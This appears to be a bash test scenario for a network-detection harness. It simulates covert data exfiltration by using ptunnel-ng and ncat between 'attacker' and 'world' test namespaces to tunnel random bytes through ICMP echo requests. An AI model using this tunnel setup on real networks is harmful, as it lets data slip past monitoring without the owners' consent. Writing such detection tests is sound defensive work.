# shellcheck shell=bash
# about: a file inside of echo requests (ptunnel-ng)
# type: attack
# kind: icmp_tunnel
# target: attacker world
# source: attacker
# tools: ptunnel-ng ncat
# within_ms: 10000
# first: icmp
play() {
	in_space world ptunnel-ng -r127.0.0.1 -R9000 &
	started
	in_space world ncat -l 127.0.0.1 9000 --recv-only >/dev/null &
	started
	in_space attacker ptunnel-ng -p"$(address world)" -l9000 -r127.0.0.1 -R9000 &
	started
	sleep 1
	head -c 3000000 /dev/urandom | on attacker timeout 15 ncat -w 12 --send-only 127.0.0.1 9000
}
